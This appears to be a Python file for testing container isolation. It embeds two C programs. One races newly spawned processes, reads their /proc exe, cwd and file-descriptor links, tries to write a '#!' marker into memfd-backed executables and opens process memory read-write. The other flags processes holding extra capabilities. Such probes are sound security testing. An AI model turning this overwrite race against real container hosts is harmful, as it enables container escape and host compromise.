"""A program that looks, inside a container, at every process that appears, as fast as it can."""

RACER = r"""
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/types.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

static int seen;

static void look(int pid, const char *what) {
    char path[64], target[256];
    snprintf(path, sizeof path, "/proc/%d/%s", pid, what);
    ssize_t size = readlink(path, target, sizeof target - 1);
    if (size < 0) return;
    target[size] = 0;
    int fd = open(path, O_RDONLY | O_NONBLOCK);
    if (strstr(target, "python")) printf("GOT %s %s\n", path, target);
    if (fd < 0) return;
    char own[64];
    snprintf(own, sizeof own, "/proc/self/fd/%d", fd);
    size = readlink(own, target, sizeof target - 1);  /* it may be another program by now */
    target[size < 0 ? 0 : size] = 0;
    if (strstr(target, "python")) printf("GOT %s %s\n", path, target);
    if (strstr(target, "memfd")) {
        for (int i = 0; i < 2000; i++) {
            int out = open(own, O_WRONLY);
            if (out >= 0) {
                if (write(out, "#!", 2) > 0) printf("WROTE %s %s\n", path, target);
                close(out);
                break;
            }
        }
    }
    close(fd);
}

int main(void) {
    time_t end = time(0) + PATIENCE;
    int newest = 1;
    while (time(0) < end && access("/stop", F_OK)) {
        /* Numbers are given out one after another, so the next to come are known. */
        for (int pid = newest > 4 ? newest - 3 : 2; pid < newest + 16; pid++) {
            char path[64], exe[256] = "";
            snprintf(path, sizeof path, "/proc/%d", pid);
            if (pid == getpid() || access(path, F_OK)) continue;
            if (pid > newest) { seen++; newest = pid; }
            for (int again = 0; again < 20; again++) look(pid, "exe");
            look(pid, "cwd");
            look(pid, "fd/3"); look(pid, "fd/4"); look(pid, "fd/5");
            snprintf(path, sizeof path, "/proc/%d/mem", pid);
            int mem = open(path, O_RDWR);
            if (mem < 0) continue;
            snprintf(path, sizeof path, "/proc/%d/exe", pid);
            if (readlink(path, exe, 255) > 0 && strstr(exe, "python"))
                printf("GOT memory %s\n", path);
            close(mem);
        }
    }
    printf("seen %d\n", seen);
    return 0;
}
"""


WATCHER = r"""
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>

/* Print each new process that holds more capabilities than the first one, which is us, and in our
   user namespace: what it holds in one of its own is no right outside of that. */

static int of_ours(int pid) {
    char path[64], theirs[64] = "", ours[64] = "";
    snprintf(path, sizeof path, "/proc/%d/ns/user", pid);
    return readlink(path, theirs, 63) > 0 && readlink("/proc/1/ns/user", ours, 63) > 0
        && !strcmp(theirs, ours);
}

static unsigned long long permitted(int pid) {
    char path[64], line[256];
    unsigned long long held = 0;
    snprintf(path, sizeof path, "/proc/%d/status", pid);
    FILE *file = fopen(path, "r");
    if (!file) return 0;
    while (fgets(line, sizeof line, file))
        if (!strncmp(line, "CapPrm:", 7)) held = strtoull(line + 7, 0, 16);
    fclose(file);
    return held;
}

int main(void) {
    unsigned long long own = permitted(1);
    time_t end = time(0) + PATIENCE;
    int newest = 1, seen = 0;
    while (time(0) < end && access("/stop", F_OK))
        for (int pid = newest > 4 ? newest - 3 : 2; pid < newest + 16; pid++) {
            unsigned long long held = permitted(pid);
            if (of_ours(pid) && (held = permitted(pid)) & ~own)
                printf("GOT %llx in %d\n", held, pid);
            if (held && pid > newest) { seen++; newest = pid; }
        }
    printf("seen %d\n", seen);
    return 0;
}
"""
